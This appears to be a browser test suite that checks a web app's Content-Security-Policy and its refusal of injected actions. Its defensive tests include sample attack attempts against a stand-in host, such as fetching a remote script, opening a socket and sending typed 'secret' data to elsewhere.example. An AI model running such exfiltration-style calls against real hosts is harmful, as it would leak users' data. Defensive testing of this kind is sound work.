/** What the pages may load, run and send: the policy that each was built with, and what it refuses. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { describe, expect, inject } from "vitest";
import { t } from "../../web/src/strings/text";
import { newContext } from "./support/driven";
import { test } from "./support/test";
import { tellOfViolations } from "./support/violations";

/** The policy of a built page, by its directives. */
function policyOf(name: string): Record<string, string> {
  const page = readFileSync(join(inject("dist"), name), "utf8").slice(0, 5000);
  const [, policy = ""] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page) ?? [];
  return Object.fromEntries(
    policy.split("; ").map((directive) => {
      const [key = "", ...values] = directive.split(" ");
      return [key, values.join(" ")];
    }),
  );
}

describe("the pages' policy", () => {
  test("of the site allows its own files and nothing else, in every page that is built", () => {
    const docs = readdirSync(join(inject("dist"), "docs")).filter((name) => name.endsWith(".html"));
    expect(docs.length).toBeGreaterThan(10);
    for (const page of ["index.html", "design.html", ...docs.map((name) => `docs/${name}`)]) {
      expect(policyOf(page), page).toMatchObject({
        "default-src": "'none'",
        "script-src": "'self' 'wasm-unsafe-eval'",
        "style-src": "'self'",
        "img-src": "'self' data: blob:",
        "connect-src": "'self'",
        "worker-src": "'self' blob:",
        "require-trusted-types-for": "'script'",
        "base-uri": "'none'",
        "form-action": "'none'",
      });
    }
  });

  test("of the single files allows what is inside them, by its hash, and no connection at all", () => {
    for (const page of ["attention-lab.html", "attention-lab-full.html"]) {
      const policy = policyOf(page);
      expect(policy["default-src"], page).toBe("'none'");
      expect(policy["connect-src"], page).toBeUndefined();
      expect(policy["script-src"], page).toMatch(/^('sha256-[\w+/=]{44}' )+'wasm-unsafe-eval'$/);
      expect(policy["style-src"], page).toMatch(/^'sha256-[\w+/=]{44}'$/);
      expect(policy["require-trusted-types-for"], page).toBe("'script'");
    }
  });

  test("of the page for frames allows what is inside it, and to fetch models", () => {
    const policy = policyOf("embed.html");
    expect(policy).toMatchObject({ "default-src": "'none'", "connect-src": "'self'", "worker-src": "blob:" });
    expect(policy["script-src"]).toMatch(/^('sha256-[\w+/=]{44}' ){2}'wasm-unsafe-eval'$/);
    expect(policy["style-src"]).toMatch(/^'sha256-[\w+/=]{44}'$/);
    expect(policy["require-trusted-types-for"]).toBe("'script'");
  });

  test("refuses what an injected text would do, and every test hears of it", async () => {
    const asked: [url: string, end: string][] = [];
    for (const address of [inject("site"), pathToFileURL(join(inject("dist"), "attention-lab.html")).href]) {
      const said: string[] = [];
      const context = await newContext({ serviceWorkers: "block" });
      await context.addInitScript(tellOfViolations);
      const page = await context.newPage();
      page.on("console", (message) => said.push(message.text()));
      // A browser may tell of a request that its policy has stopped: as a failure, and with that reason.
      page.on("requestfailed", (request) => asked.push([request.url(), request.failure()?.errorText ?? ""]));
      page.on("requestfinished", (request) => asked.push([request.url(), "answered"]));
      await page.goto(`${address}#v=1`);
      await page.locator("main h1").first().waitFor();
      expect(said.filter((text) => text.startsWith("refused"))).toEqual([]);
      const refused = await page.evaluate(async () => {
        const tries: Record<string, () => unknown> = {
          markup: () => {
            document.body.innerHTML = "<b>bold</b>";
          },
          script: () => {
            document.createElement("script").src = "https://elsewhere.example/x.js";
          },
          worker: () => new Worker("https://elsewhere.example/x.js"),
          // By an exception, or by an event after it.
          "own script as data": () =>
            new Promise((resolve, reject) => {
              const worker = new Worker("data:text/javascript,postMessage(1)");
              worker.onerror = reject;
              worker.onmessage = resolve;
            }),
          evaluation: () => new Function("return 1"),
          request: () => fetch("https://elsewhere.example/?typed=secret"),
          socket: () =>
            new Promise((_resolve, reject) => {
              new WebSocket("wss://elsewhere.example/").onerror = reject;
            }),
          // A refused picture only says so by an event.
          picture: () =>
            new Promise((_resolve, reject) => {
              const image = new Image();
              image.onerror = reject;
              image.src = "https://elsewhere.example/x.png";
            }),
        };
        const found: string[] = [];
        for (const [name, attempt] of Object.entries(tries)) {
          // What the browser's own protocol calls may evaluate text; what a timer calls may not.
          await new Promise((resolve) => setTimeout(resolve));
          try {
            await attempt();
          } catch {
            found.push(name);
          }
        }
        document.body.setAttribute("style", "opacity: 0.5");
        if (getComputedStyle(document.body).opacity === "1") found.push("style");
        return found;
      });
      expect(refused).toEqual([
        "markup",
        "script",
        "worker",
        "own script as data",
        "evaluation",
        "request",
        "socket",
        "picture",
        "style",
      ]);
      expect(said.some((text) => text.startsWith("refused by require-trusted-types-for"))).toBe(true);
      await context.close();
    }
    expect(asked.filter(([url, end]) => url.includes("elsewhere") && end !== "csp")).toEqual([]);
  });

  test("lets a walk through the page ask for nothing but its own files, by GET", async ({ open }) => {
    const lab = await open({ state: { text: "a secret sentence" } });
    const asked: { method: string; url: string; body: string | null }[] = [];
    lab.page.on("request", (request) =>
      asked.push({ method: request.method(), url: request.url(), body: request.postData() }),
    );
    await lab.page.reload();
    await lab.ready();
    await lab.type("another secret of mine");
    await lab.goTo("softmax");
    await lab.share("picture");
    await expect.poll(() => lab.page.locator("al-figure").count()).toBeGreaterThan(0);
    await lab.page.keyboard.press("Escape");
    await lab.button(t("app.lessons")).click();
    const files = readdirSync(inject("dist"), { recursive: true }).map((name) => String(name).replaceAll("\\", "/"));
    for (const { method, url, body } of asked) {
      if (url.startsWith("blob:") || url.startsWith("data:")) continue;
      expect([method, body], url).toEqual(["GET", null]);
      const { pathname } = new URL(url);
      expect(pathname === "/" || files.includes(decodeURI(pathname.slice(1))), url).toBe(true);
      expect(url).not.toContain("secret");
    }
    expect(asked.length).toBeGreaterThan(3);
  });
});
